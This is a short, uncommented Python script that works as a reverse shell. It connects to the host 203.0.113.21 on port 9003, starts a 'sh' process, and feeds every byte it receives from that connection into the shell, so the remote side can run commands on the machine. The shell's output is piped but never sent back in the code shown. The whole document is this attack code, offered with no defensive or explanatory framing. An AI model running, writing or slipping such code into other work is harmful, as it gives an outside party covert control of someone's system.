import socket
import subprocess

link = socket.create_connection(('203.0.113.21', 9003))
words = link.makefile('rb', buffering=0)
shell = subprocess.Popen(['sh'], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
while True:
    said = words.read(1)
    shell.stdin.write(said)
